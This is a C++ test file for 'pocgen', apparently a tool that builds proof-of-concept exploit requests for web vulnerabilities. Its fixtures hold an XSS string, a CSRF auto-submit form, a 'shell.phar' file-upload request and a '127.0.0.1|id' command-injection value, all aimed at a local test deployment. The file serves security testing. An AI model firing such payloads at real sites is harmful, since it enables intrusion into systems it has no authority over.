#include "doctest.h"

#include <filesystem>

#include "pocgen/poc.hpp"
#include "support.hpp"

using namespace pocgen;
using namespace pocgen::poc;
using nlohmann::json;

namespace {

subtask::SubTaskResult ans(const std::string& id, json value) {
  return {id, value.dump(), value, subtask::Status::Answered};
}

std::vector<subtask::SubTaskResult> search_answers() {
  return {ans("request_method", "get"),
          ans("request_url", "/search.php"),
          ans("path_constraint_values", {{"mode", "search"}}),
          ans("request_parameters", {{"search", "<payload>"}}),
          ans("attack_payload", "question'><script>alert(1)</script>")};
}

std::vector<subtask::SubTaskResult> ratings_answers() {
  return {ans("request_method", "POST"), ans("request_url", "http://victim.example/stat.ratings.php"),
          ans("operation_parameters", {{"action", "clear-statistics"}}), ans("request_parameters", json::object())};
}

std::vector<subtask::SubTaskResult> upload_answers() {
  return {ans("request_method", "POST"),
          ans("request_url", "/admin.php"),
          ans("path_constraint_values", {{"action", "files"}}),
          ans("request_parameters", {{"filefile", "<file>"}}),
          ans("file_name", "shell.phar"),
          ans("file_content_type", "application/octet-stream"),
          ans("file_content", "<?php echo 'poc'; ?>")};
}

}  // namespace

TEST_CASE("url encoding follows php urlencode") {
  CHECK(url_encode("a b") == "a+b");
  CHECK(url_encode("question'><script>alert(1)</script>") ==
        "question%27%3E%3Cscript%3Ealert%281%29%3C%2Fscript%3E");
  CHECK(url_encode("-_.~") == "-_.%7E");
  CHECK(url_decode("a+b%27") == "a b'");
  CHECK(url_decode("%zz") == "%zz");
  CHECK(encode_params({{"mode", "search"}, {"q", "a&b"}}) == "mode=search&q=a%26b");
}

TEST_CASE("search page request matches the known working link") {
  const auto& rec = testing::record("fig4");
  auto art = assemble(search_answers(), rec, {"fig4", "adaptive", 1});
  CHECK(art.format == Format::ProxyRequest);
  REQUIRE(art.request.has_value());
  CHECK(art.request->method == "GET");
  REQUIRE(rec.ground_truth_poc.has_value());
  CHECK(art.request->url == *rec.ground_truth_poc);
  CHECK(art.payload == "question'><script>alert(1)</script>");
  CHECK(art.body ==
        "GET /search.php?mode=search&search=question%27%3E%3Cscript%3Ealert%281%29%3C%2Fscript%3E HTTP/1.1\r\n"
        "Host: localhost:8080\r\n"
        "Connection: close\r\n\r\n");
}

TEST_CASE("ratings page: auto-submitting form rebased onto the deployment") {
  const auto& rec = testing::record("fig14");
  auto art = assemble(ratings_answers(), rec);
  CHECK(art.format == Format::Html);
  CHECK(art.body ==
        "<!DOCTYPE html>\n<html>\n<body>\n"
        "<form id=\"poc\" method=\"post\" action=\"http://localhost:8080/stat.ratings.php\">\n"
        "  <input type=\"hidden\" name=\"action\" value=\"clear-statistics\">\n"
        "</form>\n<script>document.getElementById('poc').submit();</script>\n</body>\n</html>\n");
  CHECK(classify_format(art.body) == Format::Html);
  CHECK(art.provenance.record_id == "fig14");
}

TEST_CASE("upload page: multipart request") {
  const auto& rec = testing::record("fig15");
  auto art = assemble(upload_answers(), rec);
  CHECK(art.format == Format::ProxyRequest);
  const std::string boundary = "----pocgenFormBoundary7MA4YWxkTrZu0gW";
  const std::string body = "--" + boundary + "\r\n" +
                           "Content-Disposition: form-data; name=\"filefile\"; filename=\"shell.phar\"\r\n"
                           "Content-Type: application/octet-stream\r\n\r\n"
                           "<?php echo 'poc'; ?>\r\n"
                           "--" + boundary + "--\r\n";
  CHECK(art.body == "POST /admin.php?action=files HTTP/1.1\r\n"
                    "Host: localhost:8080\r\n"
                    "Content-Type: multipart/form-data; boundary=" + boundary + "\r\n" +
                    "Content-Length: " + std::to_string(body.size()) + "\r\n" +
                    "Connection: close\r\n\r\n" + body);
  REQUIRE(art.request.has_value());
  REQUIRE(art.request->parts.size() == 1);
  CHECK(art.request->parts[0].filename == "shell.phar");
}

TEST_CASE("upload without a file field names the request parameters") {
  auto a = upload_answers();
  a[3] = ans("request_parameters", {{"submit", "Upload"}});
  try {
    assemble(a, testing::record("fig15"));
    FAIL("expected AssemblyError");
  } catch (const AssemblyError& e) {
    CHECK(e.subtask() == "request parameters");
  }
}

TEST_CASE("missing or unusable answers name the sub-task") {
  const auto& rec = testing::record("fig4");
  auto drop = [](std::vector<subtask::SubTaskResult> a, const std::string& id) {
    a.erase(std::remove_if(a.begin(), a.end(), [&](const auto& r) { return r.id == id; }), a.end());
    return a;
  };
  auto expect = [&](const std::vector<subtask::SubTaskResult>& a, const std::string& name) {
    try {
      assemble(a, rec);
      FAIL("expected AssemblyError");
    } catch (const AssemblyError& e) {
      CHECK(e.subtask() == name);
    }
  };
  expect(drop(search_answers(), "request_method"), "request method");
  expect(drop(search_answers(), "request_url"), "request URL");
  expect(drop(search_answers(), "attack_payload"), "attack payload");
  auto bad_method = search_answers();
  bad_method[0] = ans("request_method", "GE T");
  expect(bad_method, "request method");
  auto unanswered = search_answers();
  unanswered[0] = {"request_method", "unknown", std::nullopt, subtask::Status::Unanswerable};
  expect(unanswered, "request method");
  CHECK_NOTHROW(assemble(drop(search_answers(), "path_constraint_values"), rec));
}

TEST_CASE("post requests carry parameters in the body") {
  const auto& rec = testing::record("cmd-ping");
  auto art = assemble({ans("request_method", "POST"), ans("request_url", "/ping.php"),
                       ans("request_parameters", {{"host", "{{payload}}"}}), ans("attack_payload", "127.0.0.1|id")},
                      rec);
  CHECK(art.body == "POST /ping.php HTTP/1.1\r\nHost: localhost:8080\r\n"
                    "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 19\r\n"
                    "Connection: close\r\n\r\nhost=127.0.0.1%7Cid");
}

TEST_CASE("format classification") {
  CHECK(classify_format("GET /a.php?x=1 HTTP/1.1\r\nHost: h\r\n\r\n") == Format::ProxyRequest);
  CHECK(classify_format("<?php\necho 1;\n") == Format::PhpScript);
  CHECK(classify_format("#!/usr/bin/env python3\nprint(1)\n") == Format::PyScript);
  CHECK(classify_format("import requests\nrequests.get('http://h/')\n") == Format::PyScript);
  CHECK(classify_format("#!/bin/sh\ncurl http://h/\n") == Format::ShellCommand);
  CHECK(classify_format("curl -d 'a=b' http://h/x.php") == Format::ShellCommand);
  CHECK(classify_format("<HTML><body><form></form></body></HTML>") == Format::Html);
  CHECK(classify_format("Open http://h/x.php?q=1 in a browser.") == Format::PlainText);
  CHECK(classify_format("") == Format::PlainText);
  CHECK(format_rules_version() >= 1);
  for (Format f : kAllFormats) CHECK(parse_format(to_string(f)) == f);
  CHECK(extension(Format::ProxyRequest) == ".http");
  auto art = from_text("curl http://h/", Cwe::CWE78, {"r", "base-s1", 2});
  CHECK(art.format == Format::ShellCommand);
  CHECK(file_stem(art.provenance) == "r_base-s1_2");
}

TEST_CASE("serialization is deterministic") {
  const auto& rec = testing::record("fig15");
  auto art = assemble(upload_answers(), rec, {"fig15", "adaptive", 3});
  testing::TempDir a, b;
  auto pa = serialize(art, (a.path() / "out").string());
  auto pb = serialize(art, (b.path() / "out").string());
  CHECK(std::filesystem::path(pa).filename() == "fig15_adaptive_3.http");
  CHECK(fsutil::read_file(pa) == art.body);
  CHECK(fsutil::read_file(pa) == fsutil::read_file(pb));
  auto side = json::parse(fsutil::read_file((a.path() / "out" / "fig15_adaptive_3.json").string()));
  CHECK(side == sidecar(art));
  CHECK(side["format"] == "proxy-request");
  CHECK(side["cwe"] == "CWE-434");
  CHECK(side["request"]["parts"][0]["filename"] == "shell.phar");
}
